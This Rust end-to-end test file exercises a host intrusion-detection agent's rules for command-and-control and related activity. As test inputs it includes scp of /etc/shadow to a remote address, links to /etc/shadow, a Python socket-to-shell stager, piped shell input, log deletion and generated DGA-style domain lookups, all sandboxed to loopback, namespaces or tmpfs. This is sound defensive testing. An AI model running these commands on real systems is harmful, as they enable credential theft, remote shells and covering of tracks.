//! End to end as root: the command-and-control rules and the rules that
//! close gaps against Falco's default rules fire on the real tools, with
//! the process that did it. Nothing leaves the host: every scp, sftp and
//! ssh goes to a port nothing listens on (loopback port 1) or runs in a
//! network namespace of its own with no route; links are made in a scratch
//! directory and removed; debugfs runs in a podman container on /dev/null.

use std::path::Path;
use std::process::Stdio;
use std::time::Duration;

mod common;
use common::Cleanup;
use common::RulesAgent as Agent;

/// Runs a command to completion and returns its pid (the exec'd program's).
fn run(argv: &[&str]) -> u32 {
    common::run_quiet(common::argv(argv).stdin(Stdio::null())).0
}

fn tool(p: &str) -> &str {
    assert!(Path::new(p).exists(), "{p} is needed by this test");
    p
}

/// ssh options that keep a client from reading the host's configuration
/// or asking anything.
const SSH_OPTS: [&str; 6] = [
    "-F",
    "/dev/null",
    "-o",
    "BatchMode=yes",
    "-o",
    "ConnectTimeout=1",
];

#[test]
fn c2_and_falco_gap_rules_fire_on_real_tools() {
    let Some(agent) = Agent::start("c2_and_falco_gap_rules_fire_on_real_tools", None) else {
        return;
    };
    std::thread::sleep(Duration::from_millis(500));
    let dir = std::env::temp_dir().join(vigil_tests::unique_marker("vg-c2"));
    std::fs::create_dir_all(&dir).unwrap();
    let _c = Cleanup(vec![dir.clone()]);
    let me = std::process::id();

    // scp pushing a file staged in /tmp (port 1 on loopback refuses)
    let staged = dir.join("payload");
    std::fs::write(&staged, "x\n").unwrap();
    let scp = tool("/usr/bin/scp");
    let mut argv = vec![scp];
    argv.extend(SSH_OPTS);
    argv.extend([
        "-P",
        "1",
        staged.to_str().unwrap(),
        "nobody@127.0.0.1:/srv/in/",
    ]);
    let pid = run(&argv);
    let a = agent.expect("remote_copy_via_staging_dir", |a| {
        a["process"]["pid"] == pid
    });
    assert_eq!(a["process"]["name"], "scp", "{a}");
    assert_eq!(a["process"]["parent"]["pid"], me, "{a}");

    // sftp pulling into /dev/shm
    let sftp = tool("/usr/bin/sftp");
    let mut argv = vec![sftp];
    argv.extend(SSH_OPTS);
    argv.extend(["-P", "1", "nobody@127.0.0.1:/srv/tool", "/dev/shm/"]);
    let pid = run(&argv);
    let a = agent.expect("remote_copy_via_staging_dir", |a| {
        a["process"]["pid"] == pid
    });
    assert_eq!(a["process"]["name"], "sftp", "{a}");

    // an ordinary copy between project folders raises nothing (checked
    // after the next alert, which comes later in the event stream)
    let mut argv = vec![scp];
    argv.extend(SSH_OPTS);
    argv.extend(["-P", "1", "Cargo.toml", "nobody@127.0.0.1:/srv/www/"]);
    let plain = run(&argv);

    // scp of /etc/shadow (nothing is sent: the connection is refused)
    let mut argv = vec![scp];
    argv.extend(SSH_OPTS);
    argv.extend(["-P", "1", "/etc/shadow", "nobody@127.0.0.1:"]);
    let pid = run(&argv);
    let a = agent.expect("credentials_copied_over_ssh", |a| {
        a["process"]["pid"] == pid
    });
    assert_eq!(a["process"]["parent"]["pid"], me, "{a}");
    let recs = agent.out.records();
    assert!(
        !recs.iter().any(|a| a["process"]["pid"] == plain),
        "a plain scp alerted: {recs:?}"
    );

    // ssh out to port 443, in a network namespace with no route: the
    // connect fails at once and no packet leaves (unshare execs ssh in
    // place: same pid); first a host name, whose lookup is a UDP connect
    // to the resolver's port 53 (no alert), then port 443 by address
    let mut argv = vec![tool("/usr/bin/unshare"), "--net", tool("/usr/bin/ssh")];
    argv.extend(SSH_OPTS);
    argv.extend(["-p", "2222", "nobody@vigil-test.invalid", "true"]);
    let lookup = run(&argv);
    let mut argv = vec![tool("/usr/bin/unshare"), "--net", tool("/usr/bin/ssh")];
    argv.extend(SSH_OPTS);
    argv.extend(["-p", "443", "nobody@198.51.100.7", "true"]);
    let pid = run(&argv);
    let a = agent.expect("ssh_to_web_or_dns_port", |a| a["process"]["pid"] == pid);
    assert_eq!(a["destination"]["port"], 443, "{a}");
    assert_eq!(a["destination"]["ip"], "198.51.100.7", "{a}");
    assert_eq!(a["network"]["transport"], "tcp", "{a}");
    assert_eq!(a["process"]["name"], "ssh", "{a}");
    let recs = agent.out.records();
    assert!(
        !recs.iter().any(|a| a["process"]["pid"] == lookup),
        "an ssh name lookup alerted: {recs:?}"
    );

    // gdb starting a program (its child asks to be traced): no alert;
    // a program doing it on its own: an alert
    let gdb = run(&[
        tool("/usr/bin/gdb"),
        "-batch",
        "-nx",
        "-ex",
        "run",
        "--args",
        "/bin/true",
    ]);
    let pid = run(&[
        tool("/usr/bin/python3"),
        "-c",
        "import ctypes; assert ctypes.CDLL(None).ptrace(0, 0, None, None) == 0",
    ]);
    let a = agent.expect("ptrace_traceme_anti_debug", |a| a["process"]["pid"] == pid);
    assert_eq!(a["vigil"]["ptrace"]["request"], "PTRACE_TRACEME", "{a}");
    assert_eq!(a["process"]["parent"]["pid"], me, "{a}");
    let recs = agent.out.records();
    assert!(
        !recs
            .iter()
            .any(|a| a["rule"]["id"] == "ptrace_traceme_anti_debug"
                && (a["process"]["pid"] == gdb || a["process"]["parent"]["pid"] == gdb)),
        "gdb's own tracee alerted: {recs:?}"
    );

    // a symlink to /etc/shadow and a hard link to it (same filesystem)
    let sl = dir.join("innocent.txt");
    let pid = run(&[
        tool("/usr/bin/ln"),
        "-s",
        "/etc/shadow",
        sl.to_str().unwrap(),
    ]);
    let a = agent.expect("symlink_to_sensitive_file", |a| a["process"]["pid"] == pid);
    assert_eq!(a["file"]["path"], sl.to_str().unwrap(), "{a}");
    assert_eq!(a["vigil"]["file_change"]["target"], "/etc/shadow", "{a}");
    assert_eq!(a["process"]["name"], "ln", "{a}");
    let hl = dir.join("hl");
    let same_fs = {
        use std::os::unix::fs::MetadataExt;
        std::fs::metadata("/etc/shadow").unwrap().dev() == std::fs::metadata(&dir).unwrap().dev()
    };
    assert!(
        same_fs,
        "this test needs {} on the filesystem of /etc",
        dir.display()
    );
    let pid = run(&[tool("/usr/bin/ln"), "/etc/shadow", hl.to_str().unwrap()]);
    assert!(hl.exists(), "ln made no hard link");
    let a = agent.expect("hardlink_to_sensitive_file", |a| a["process"]["pid"] == pid);
    assert_eq!(a["file"]["path"], hl.to_str().unwrap(), "{a}");
    assert_eq!(a["vigil"]["file_change"]["source"], "/etc/shadow", "{a}");
    std::fs::remove_file(&hl).unwrap();

    // debugfs in a podman container (the host's debugfs and its libraries
    // mounted read-only into the busybox image; it is given /dev/null, not
    // a disk)
    let mounts = [
        format!("{}:/usr/sbin/debugfs:ro", tool("/usr/sbin/debugfs")),
        format!(
            "{}:/lib/x86_64-linux-gnu:ro",
            tool("/usr/lib/x86_64-linux-gnu/libext2fs.so.2").trim_end_matches("/libext2fs.so.2")
        ),
        format!(
            "{}:/lib64:ro",
            tool("/usr/lib64/ld-linux-x86-64.so.2").trim_end_matches("/ld-linux-x86-64.so.2")
        ),
    ];
    let opts: Vec<&str> = mounts.iter().flat_map(|m| ["-v", m.as_str()]).collect();
    let c = vigil_tests::PodmanContainer::run_with(
        "debugfs",
        &opts,
        &["/usr/sbin/debugfs", "-R", "stats", "/dev/null"],
    )
    .expect("podman run debugfs");
    let a = agent.expect("debugfs_in_container", |a| a["container"]["id"] == c.id());
    assert_eq!(a["process"]["name"], "debugfs", "{a}");
    assert_eq!(
        a["process"]["command_line"], "/usr/sbin/debugfs -R stats /dev/null",
        "{a}"
    );
}

/// Answers every DNS query sent to 127.0.0.1:53 with NXDOMAIN (the
/// question copied back) until dropped, so that glibc's resolver returns at
/// once and nothing leaves the host.
struct NxResponder {
    stop: std::sync::Arc<std::sync::atomic::AtomicBool>,
    thread: Option<std::thread::JoinHandle<()>>,
}

impl NxResponder {
    fn start() -> NxResponder {
        let sock = std::net::UdpSocket::bind("127.0.0.1:53")
            .expect("this test needs UDP 127.0.0.1:53 free for its own responder");
        sock.set_read_timeout(Some(Duration::from_millis(100)))
            .unwrap();
        let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
        let s2 = stop.clone();
        let thread = std::thread::spawn(move || {
            let mut buf = [0u8; 1500];
            while !s2.load(std::sync::atomic::Ordering::Relaxed) {
                let Ok((n, peer)) = sock.recv_from(&mut buf) else {
                    continue;
                };
                if n < 12 {
                    continue;
                }
                let mut r = buf[..n].to_vec();
                r[2] = 0x81 | (r[2] & 0x01); // QR, opcode 0, RD kept
                r[3] = 0x83; // RA, NXDOMAIN
                r[6..12].fill(0); // no answer, authority or additional records
                let _ = sock.send_to(&r, peer);
            }
        });
        NxResponder {
            stop,
            thread: Some(thread),
        }
    }
}

impl Drop for NxResponder {
    fn drop(&mut self) {
        self.stop.store(true, std::sync::atomic::Ordering::Relaxed);
        if let Some(t) = self.thread.take() {
            let _ = t.join();
        }
    }
}

/// `n` distinct names of 12 random lower-case letters and digits under
/// common top-level domains, each one that vigil counts as generated.
fn generated_names(n: usize, seed: u64) -> Vec<String> {
    let mut x = seed | 1;
    let mut next = move || {
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        x
    };
    let alphabet = b"abcdefghijklmnopqrstuvwxyz0123456789";
    let tlds = ["com", "net", "org", "info", "ru"];
    let mut out = Vec::new();
    while out.len() < n {
        let label: String = (0..12)
            .map(|_| alphabet[(next() % alphabet.len() as u64) as usize] as char)
            .collect();
        let name = format!("{label}.{}", tlds[(next() % 5) as usize]);
        if vigil_engine::enrich::dnsnames::looks_generated(&name) && !out.contains(&name) {
            out.push(name);
        }
    }
    out
}

/// Runs `script` under `sh` in a mount namespace of its own whose
/// /etc/resolv.conf names 127.0.0.1 (unshare execs sh in place: the pid is
/// the shell's); returns the pid.
fn in_local_resolver_ns(resolv: &Path, script: &str) -> u32 {
    in_private_mount_ns(
        &format!("mount --bind {} /etc/resolv.conf", resolv.display()),
        script,
    )
}

/// Runs `setup && script` under `sh` in a private mount namespace of its
/// own; returns the shell's pid (unshare execs sh in place).
fn in_private_mount_ns(setup: &str, script: &str) -> u32 {
    let body = format!("{setup} && {script}");
    run(&[
        tool("/usr/bin/unshare"),
        "--mount",
        "--propagation",
        "private",
        "/bin/sh",
        "-c",
        &body,
    ])
}

#[test]
fn generated_dns_names_queried_in_bulk_alert() {
    let Some(agent) = Agent::start("generated_dns_names_queried_in_bulk_alert", None) else {
        return;
    };
    std::thread::sleep(Duration::from_millis(500));
    let _responder = NxResponder::start();
    let dir = std::env::temp_dir().join(vigil_tests::unique_marker("vg-dga"));
    std::fs::create_dir_all(&dir).unwrap();
    let _c = Cleanup(vec![dir.clone()]);
    let resolv = dir.join("resolv.conf");
    std::fs::write(
        &resolv,
        "nameserver 127.0.0.1\noptions timeout:1 attempts:1\n",
    )
    .unwrap();
    let getent = tool("/usr/bin/getent");
    let seed = (u64::from(std::process::id()) << 20) ^ 0x9e37_79b9;

    // a handful of ordinary names looked up one getent at a time: no alert
    let benign = in_local_resolver_ns(
        &resolv,
        &format!(
            "for n in deb.debian.org github.com static.crates.io files.pythonhosted.org \
             www.example.com; do {getent} ahosts $n; done; true"
        ),
    );

    // a script running one resolver program per generated name (dig in a
    // loop): the alert names the last getent and the shell as its parent
    let names = generated_names(8, seed).join(" ");
    let sh = in_local_resolver_ns(
        &resolv,
        &format!("for n in {names}; do {getent} ahosts $n; done; true"),
    );
    let a = agent.expect("dga_dns_queries", |a| a["process"]["parent"]["pid"] == sh);
    assert_eq!(a["process"]["name"], "getent", "{a}");
    assert_eq!(a["event"]["action"], "dns-query", "{a}");
    assert_eq!(a["vigil"]["dns"]["random_names"], 6, "{a}");
    let q = a["dns"]["question"]["name"].as_str().unwrap_or_default();
    assert!(
        names.split(' ').any(|n| n == q),
        "{q} not among {names}: {a}"
    );

    // one process resolving generated names itself (Python's getaddrinfo)
    let names = generated_names(8, seed ^ 0x5555).join(" ");
    let py = in_local_resolver_ns(
        &resolv,
        &format!(
            "exec {} -c 'import socket, sys\nfor n in sys.argv[1:]:\n    try: socket.getaddrinfo(n, 80)\n    except OSError: pass' {names}",
            tool("/usr/bin/python3")
        ),
    );
    let a = agent.expect("dga_dns_queries", |a| a["process"]["pid"] == py);
    assert!(
        a["process"]["name"]
            .as_str()
            .unwrap_or_default()
            .starts_with("python3"),
        "{a}"
    );
    assert_eq!(a["vigil"]["dns"]["random_names"], 6, "{a}");

    let recs = agent.out.records();
    assert!(
        !recs.iter().any(|a| a["rule"]["id"] == "dga_dns_queries"
            && (a["process"]["pid"] == benign || a["process"]["parent"]["pid"] == benign)),
        "ordinary lookups alerted: {recs:?}"
    );
}

/// Runs `script` under `sh` in a mount namespace of its own with a tmpfs
/// over `dir` (so nothing it writes or deletes there reaches the host);
/// returns the shell's pid (unshare execs sh in place).
fn in_scratch_mount(dir: &str, script: &str) -> u32 {
    in_private_mount_ns(&format!("mount -t tmpfs vigil-test {dir}"), script)
}

#[test]
fn shells_on_pipes_and_sockets_sudoers_reads_pam_settings_and_log_deletion_alert() {
    let Some(agent) = Agent::start(
        "shells_on_pipes_and_sockets_sudoers_reads_pam_settings_and_log_deletion_alert",
        None,
    ) else {
        return;
    };
    std::thread::sleep(Duration::from_millis(500));

    // commands piped into a shell: the shell reading them alerts (its
    // parent is the shell running the pipeline)
    let sh = run(&["/bin/sh", "-c", "echo 'echo piped' | /bin/sh; true"]);
    let a = agent.expect("shell_reading_commands_from_pipe", |a| {
        a["process"]["parent"]["pid"] == sh
    });
    assert_eq!(a["vigil"]["exec"]["stdin"], "pipe", "{a}");
    assert_eq!(a["process"]["command_line"], "/bin/sh", "{a}");
    // a shell given -c, and a script file, on the same pipe: no alert
    let with_c = run(&[
        "/bin/sh",
        "-c",
        "echo x | /bin/sh -c 'cat >/dev/null'; true",
    ]);
    let script = std::env::temp_dir().join(vigil_tests::unique_marker("vg-script"));
    std::fs::write(&script, "cat >/dev/null\n").unwrap();
    let _c = Cleanup(vec![script.clone()]);
    let with_file = run(&[
        "/bin/sh",
        "-c",
        &format!("echo x | /bin/sh {}; true", script.display()),
    ]);

    // a shell whose stdin and stdout are a TCP connection (a stager's dup2
    // then exec; the other end sends `exit`); python execs sh in place
    let py = run(&[
        tool("/usr/bin/python3"),
        "-c",
        "import os, socket\n\
         l = socket.socket(); l.bind(('127.0.0.1', 0)); l.listen(1)\n\
         c = socket.create_connection(l.getsockname()); s, _ = l.accept()\n\
         s.sendall(b'exit\\n')\n\
         os.dup2(c.fileno(), 0); os.dup2(c.fileno(), 1)\n\
         os.execv('/bin/sh', ['sh'])",
    ]);
    let a = agent.expect("shell_with_network_stdio", |a| a["process"]["pid"] == py);
    assert_eq!(a["vigil"]["exec"]["stdin"], "network", "{a}");
    assert_eq!(a["vigil"]["exec"]["stdout"], "network", "{a}");
    assert_eq!(a["process"]["executable"], "/usr/bin/dash", "{a}");

    // the sudo policy read by cat (this host has no sudo: the open fails,
    // which alerts too)
    let cat = run(&[tool("/usr/bin/cat"), "/etc/sudoers"]);
    let a = agent.expect("sudoers_read", |a| a["process"]["pid"] == cat);
    assert_eq!(a["file"]["path"], "/etc/sudoers", "{a}");
    assert_eq!(a["process"]["name"], "cat", "{a}");

    // a PAM module setting appended to (a tmpfs over /etc/security)
    let pam = in_scratch_mount(
        "/etc/security",
        "echo '* hard core 0' >> /etc/security/limits.conf",
    );
    let a = agent.expect("pam_config_modified", |a| a["process"]["pid"] == pam);
    assert_eq!(a["file"]["path"], "/etc/security/limits.conf", "{a}");

    // system logs removed (a tmpfs over /var/log): an existing one with
    // rm -f, a missing one with unlink (the command alerts either way)
    let logs = in_scratch_mount(
        "/var/log",
        "touch /var/log/messages && rm -f /var/log/messages; unlink /var/log/wtmp; true",
    );
    let a = agent.expect("log_truncated_by_command", |a| {
        a["process"]["parent"]["pid"] == logs && a["process"]["name"] == "rm"
    });
    assert_eq!(
        a["process"]["command_line"], "rm -f /var/log/messages",
        "{a}"
    );
    agent.expect("log_file_deleted", |a| {
        a["process"]["parent"]["pid"] == logs && a["file"]["path"] == "/var/log/messages"
    });
    agent.expect("log_truncated_by_command", |a| {
        a["process"]["parent"]["pid"] == logs
            && a["process"]["command_line"] == "unlink /var/log/wtmp"
    });

    let recs = agent.out.records();
    assert!(
        !recs
            .iter()
            .any(|a| a["rule"]["id"] == "shell_reading_commands_from_pipe"
                && (a["process"]["parent"]["pid"] == with_c
                    || a["process"]["parent"]["pid"] == with_file)),
        "a shell with -c or a script alerted: {recs:?}"
    );
}
